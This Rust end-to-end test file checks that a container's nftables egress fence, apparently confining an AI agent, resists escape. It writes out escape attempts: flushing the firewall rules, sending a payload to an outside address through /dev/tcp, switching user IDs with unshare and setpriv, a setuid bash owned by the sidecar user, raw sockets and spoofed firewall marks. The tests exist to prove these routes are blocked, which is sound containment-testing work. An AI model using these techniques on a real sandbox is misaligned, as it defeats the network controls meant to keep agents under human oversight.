//! Who the agent can become and what it may do to the rules: as an ordinary user, and as root of a container that drops
//! all capabilities.

use std::fs;
use std::net::SocketAddr;
use std::os::unix::fs::{PermissionsExt as _, chown};
use std::process::Output;
use std::time::Duration;

use e2e::pod::{AGENT, Pod, SIDECAR, can_run, said};
use rustix::fs::Uid;
use rustix::io::Errno;
use rustix::thread::set_thread_res_uid;
use socket2::{Domain, Protocol, Socket, Type};

use super::attacks::{LEAK, V4};
use super::{MARK, fenced, is_syn, left};

const FLUSH: &str = "nft flush ruleset";
const NOT_PERMITTED: &str = "Operation not permitted";
/// `ETH_P_ALL`, as the kernel wants it.
const EVERY_PROTOCOL: u16 = 3u16.to_be();

/// Says the payload to [`V4`], port 7, without a program of ours.
fn shout() -> String {
    format!("echo {} >/dev/tcp/{V4}/7", String::from_utf8_lossy(LEAK))
}

fn rules(pod: &Pod) -> String {
    pod.shell("nft -s list ruleset").unwrap()
}

fn run(pod: &Pod, user: u32, arguments: &[&str]) -> Output {
    let [program, rest @ ..] = arguments else { panic!("nothing to run") };
    pod.command(user, program).args(rest).env("LC_ALL", "C").output().unwrap()
}

/// Programs that every image may hold: those that the kernel has to forbid, and those that it may let run to no effect.
fn programs_change_nothing(pod: &Pod, user: u32) {
    let before = rules(pod);
    assert!(before.contains("table inet agentaccess"), "{before}");
    let (sidecar, shout) = (SIDECAR.to_string(), shout());
    let map = format!("--map-user={sidecar}");
    let tries: [(&[&str], bool); 6] = [
        (&["sh", "-c", FLUSH], true),
        (&["unshare", "-Ur", "sh", "-c", FLUSH], true),
        (&["setpriv", "--reuid", &sidecar, "bash", "-c", &shout], true),
        (&["setpriv", "--reuid", "0", "sh", "-c", FLUSH], true),
        (&["unshare", "-Ur", "bash", "-c", &shout], false),
        (&["unshare", &map, "bash", "-c", &shout], false),
    ];
    for (arguments, forbidden) in tries {
        let out = run(pod, user, arguments);
        println!("user {user}: {arguments:?}: {}, {}", out.status, said(&out).trim());
        if forbidden {
            let told = !out.status.success() && said(&out).contains(NOT_PERMITTED);
            assert!(told, "user {user}: {arguments:?}: {}", said(&out));
        }
        assert_eq!(left(pod), [], "user {user}: {arguments:?}: {}", said(&out));
        assert_eq!(rules(pod), before, "user {user}: {arguments:?}: {}", said(&out));
    }
}

/// What takes a capability, and how the kernel refused it.
fn forbidden() -> Vec<(&'static str, Result<(), Option<Errno>>)> {
    let open = |domain, kind, protocol| {
        Socket::new(domain, kind, Some(protocol)).map(drop).map_err(|error| Errno::from_io_error(&error))
    };
    let packets = Protocol::from(i32::from(EVERY_PROTOCOL));
    vec![
        ("a raw socket of IPv4", open(Domain::IPV4, Type::RAW, Protocol::from(253))),
        ("a raw socket of IPv6", open(Domain::IPV6, Type::RAW, Protocol::from(253))),
        ("a raw socket of ICMP", open(Domain::IPV4, Type::RAW, Protocol::ICMPV4)),
        ("a packet socket", open(Domain::PACKET, Type::RAW, packets)),
        ("a packet socket without headers", open(Domain::PACKET, Type::DGRAM, packets)),
        ("the sidecar's user", become_user(SIDECAR)),
    ]
}

fn become_user(user: u32) -> Result<(), Option<Errno>> {
    let uid = Uid::from_raw(user);
    set_thread_res_uid(uid, uid, uid).map_err(Some)
}

fn is_forbidden(pod: &Pod, user: &str, tried: Vec<(&str, Result<(), Option<Errno>>)>) {
    let before = rules(pod);
    for (what, ended) in tried {
        println!("{user}: {what}: {ended:?}");
        assert_eq!(ended, Err(Some(Errno::PERM)), "{user}: {what}");
    }
    assert_eq!(left(pod), [], "{user}");
    assert_eq!(rules(pod), before, "{user}");
}

#[test]
fn nobody_becomes_the_sidecar_or_takes_the_fence_down() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();

    // A program that is the sidecar's user, as an image could bring it.
    let folder = tempfile::tempdir().unwrap();
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let program = folder.path().join("shell");
    fs::copy("/bin/bash", &program).unwrap();
    chown(&program, Some(SIDECAR), None).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
    let out = pod.command(AGENT, &program).args(["-p", "-c", &shout()]).output().unwrap();
    assert_eq!(left(&pod), [], "{}", said(&out));
    // Without no_new_privs it gets out: admission has to see to that, and the user's number be nobody's guess.
    let shell = format!("setpriv --reuid {AGENT} --clear-groups {} -p -c '{}' || true", program.display(), shout());
    pod.shell(&shell).unwrap();
    assert!(left(&pod).iter().any(is_syn), "a file of the sidecar's user gets out");

    // A mark of the sidecar's flows on the packets of root itself.
    pod.within(0, || {
        for (kind, protocol) in [(Type::DGRAM, Protocol::UDP), (Type::STREAM, Protocol::TCP)] {
            let socket = Socket::new(Domain::IPV4, kind, Some(protocol)).unwrap();
            socket.set_mark(MARK).unwrap();
            let _refused = socket.connect_timeout(&SocketAddr::new(V4.into(), 443).into(), Duration::from_millis(500));
            let _refused = socket.send(LEAK);
        }
    })
    .unwrap();
    assert_eq!(left(&pod), []);

    programs_change_nothing(&pod, AGENT);
    // That the programs above were root, and the sidecar, in a namespace of their own.
    for (option, user) in [("-Ur".to_owned(), "0".to_owned()), (format!("--map-user={SIDECAR}"), SIDECAR.to_string())] {
        let id = run(&pod, AGENT, &["unshare", &option, "id", "-u"]);
        println!("unshare {option} id -u: {}", said(&id).trim());
        assert!(
            id.status.success() && said(&id).trim() == user,
            "user namespaces were not tried: this machine gives the agent none (user.max_user_namespaces, or its security \
             modules): {}",
            said(&id)
        );
    }
    let mut tried = pod.within(AGENT, forbidden).unwrap();
    tried.push(("root", pod.within(AGENT, || become_user(0)).unwrap()));
    is_forbidden(&pod, "the agent", tried);
    pod.verify().unwrap();
}

/// A container whose image says root, as admission lets it: the number 0 and no capability.
#[test]
fn root_without_capabilities_is_held_as_anybody() {
    if !can_run() {
        return;
    }
    let (pod, _sidecar) = fenced();
    // All five sets, of the programs and of the thread.
    let empty = |status: &str| {
        let sets: Vec<&str> =
            status.lines().filter_map(|line| line.strip_prefix("Cap")?.split_once(":\t")).map(|(_, set)| set).collect();
        assert_eq!(sets, ["0000000000000000"; 5], "{status}");
        assert!(status.contains("Uid:\t0\t0\t0\t0\n"), "{status}");
    };
    empty(&said(&run(&pod, 0, &["cat", "/proc/self/status"])));
    empty(&pod.within_as_bare_root(|| fs::read_to_string("/proc/thread-self/status").unwrap()).unwrap());

    programs_change_nothing(&pod, 0);
    is_forbidden(&pod, "root", pod.within_as_bare_root(forbidden).unwrap());
    // With capabilities all of it is to be had.
    let had = pod.within(0, forbidden).unwrap();
    assert!(had.iter().all(|(_, ended)| ended.is_ok()), "{had:?}");
    // TCP of root's own is the agent's.
    let out = run(&pod, 0, &["bash", "-c", &format!("exec 3<>/dev/tcp/{V4}/7 && cat <&3")]);
    assert!(said(&out).contains("reset by peer"), "{}", said(&out));
    assert_eq!(left(&pod), []);
    pod.verify().unwrap();
}
